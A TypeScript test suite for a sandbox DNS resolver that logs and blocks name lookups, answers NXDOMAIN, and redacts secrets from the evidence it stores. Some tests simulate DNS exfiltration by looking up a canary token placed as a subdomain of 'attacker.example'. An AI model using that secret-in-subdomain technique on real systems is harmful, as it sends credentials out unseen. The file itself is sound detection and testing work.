import assert from 'node:assert/strict';
import { createSocket, type Socket as DatagramSocket } from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { once } from 'node:events';
import { connect, createServer, type Server } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { redactNetworkEvidence } from '../../src/attacks/redact-network-evidence.js';
import { checkNetworkEvidence } from '../../src/models/network-evidence.js';
import { readDnsQuestion, SandboxResolver } from '../../src/network/sandbox-resolver.js';
import { SecretRedactor } from '../../src/text/secret-redactor.js';

/** A standard query for `name` (type A unless told), built as a stub resolver would. */
function query(name: string, type = 1, id = 0x1234): Buffer {
  const labels = name
    .split('.')
    .map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
  const header = Buffer.from([id >> 8, id & 0xff, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([header, ...labels, Buffer.from([0, type >> 8, type & 0xff, 0, 1])]);
}

describe('sandbox resolver', () => {
  let resolver: SandboxResolver;
  let udp: DatagramSocket;
  let tcp: Server;
  let address: string;
  before(async () => {
    resolver = new SandboxResolver({ maxNames: 4 });
    udp = createSocket('udp4');
    udp.on('message', (message, sender) => {
      const answer = resolver.answer(message);
      if (answer !== undefined) udp.send(answer, sender.port, sender.address);
    });
    udp.bind(0, '127.0.0.1');
    await once(udp, 'listening');
    // The same port over TCP, as the sandbox has it.
    tcp = createServer((socket) => resolver.acceptStream(socket));
    tcp.listen(udp.address().port, '127.0.0.1');
    await once(tcp, 'listening');
    address = `127.0.0.1:${udp.address().port}`;
  });
  after(() => {
    resolver.close();
    udp.close();
    tcp.close();
  });

  it("records each name a real client looks up and answers NXDOMAIN at once (a DNS exfiltration's name too)", async () => {
    const client = new Resolver({ timeout: 2_000, tries: 1 });
    client.setServers([address]);
    await assert.rejects(client.resolve4('Attacker.Example'), { code: 'ENOTFOUND' });
    await assert.rejects(client.resolve6('attacker.example'), { code: 'ENOTFOUND' });
    await assert.rejects(client.resolve4('sk-canary-7f3a.attacker.example'), { code: 'ENOTFOUND' });
    const { blocked } = resolver.blocked();
    assert.deepEqual(
      blocked.map((entry) => [entry.via, entry.host, entry.port, entry.lookups]),
      [
        ['name_lookup', 'attacker.example', null, 2],
        ['name_lookup', 'sk-canary-7f3a.attacker.example', null, 1],
      ],
    );
  });

  it('answers over TCP, framed by length, and closes a client that sends what is not a query', async () => {
    const socket = connect(Number(address.split(':')[1]), '127.0.0.1');
    await once(socket, 'connect');
    const message = query('tcp.example', 16, 0xbeef);
    const framed = Buffer.concat([Buffer.from([message.length >> 8, message.length & 0xff]), message]);
    // Split across writes, as a stream may deliver it.
    socket.write(framed.subarray(0, 5));
    socket.write(framed.subarray(5));
    const [chunk] = (await once(socket, 'data')) as [Buffer];
    assert.equal(chunk.readUInt16BE(0), chunk.length - 2);
    assert.equal(chunk.readUInt16BE(2), 0xbeef);
    assert.equal(chunk.readUInt16BE(4) & 0x800f, 0x8003, 'a response, NXDOMAIN');
    // A response sent back at it is not a query: the connection is closed.
    const bogus = Buffer.from(chunk.subarray(2));
    socket.write(Buffer.concat([Buffer.from([bogus.length >> 8, bogus.length & 0xff]), bogus]));
    await once(socket, 'close');
    assert.ok(resolver.blocked().blocked.some((entry) => entry.host === 'tcp.example'));
  });

  it('reads only a standard query with one plain name; drops the rest unanswered', () => {
    const good = query('a.example');
    assert.equal(readDnsQuestion(good)?.name, 'a.example');
    const response = Buffer.from(good);
    response[2] = 0x81;
    const pointer = Buffer.concat([good.subarray(0, 12), Buffer.from([0xc0, 0x0c, 0, 1, 0, 1])]);
    const twoQuestions = Buffer.from(good);
    twoQuestions[5] = 2;
    const cut = good.subarray(0, good.length - 3);
    const longLabel = query(`${'x'.repeat(64)}.example`);
    const longName = query(Array.from({ length: 60 }, () => 'abcd').join('.'));
    for (const [what, message] of Object.entries({
      response,
      pointer,
      twoQuestions,
      cut,
      longLabel,
      longName,
    })) {
      assert.equal(readDnsQuestion(message), undefined, what);
    }
    // Bytes a DNS name may hold but a host name may not are kept visible, escaped.
    const odd = Buffer.concat([good.subarray(0, 12), Buffer.from([3, 0x61, 0x2e, 0x00, 0, 0, 1, 0, 1])]);
    assert.equal(readDnsQuestion(odd)?.name, 'a\\046\\000');
  });

  it('keeps at most maxNames names and counts the lookups past them', () => {
    const bounded = new SandboxResolver({ maxNames: 2 });
    for (const name of ['one.example', 'two.example', 'three.example', 'four.example', 'one.example']) {
      assert.ok(bounded.answer(query(name)) !== undefined);
    }
    const { blocked, dropped } = bounded.blocked();
    assert.deepEqual(
      blocked.map((entry) => [entry.host, entry.lookups]),
      [
        ['one.example', 2],
        ['two.example', 1],
      ],
    );
    assert.equal(dropped, 2);
  });

  it('stores a looked-up name that carries a campaign secret redacted, and only under network: proxy', () => {
    const own = new SandboxResolver();
    own.answer(query('sk-canary-7f3a.attacker.example'));
    const evidence = checkNetworkEvidence({
      schemaVersion: 1,
      mode: 'proxy',
      requests: [],
      droppedRequests: 0,
      blocked: own.blocked().blocked,
      coverage: { complete: true, reasons: [], gaps: [] },
    });
    const stored = redactNetworkEvidence(
      evidence,
      new SecretRedactor([{ name: 'CANARY', value: 'sk-canary-7f3a' }]),
    );
    assert.doesNotMatch(JSON.stringify(stored), /sk-canary-7f3a/);
    assert.match(stored.blocked?.[0]?.host ?? '', /attacker\.example$/);
    assert.throws(() => checkNetworkEvidence({ ...evidence, mode: 'none' }));
  });
});
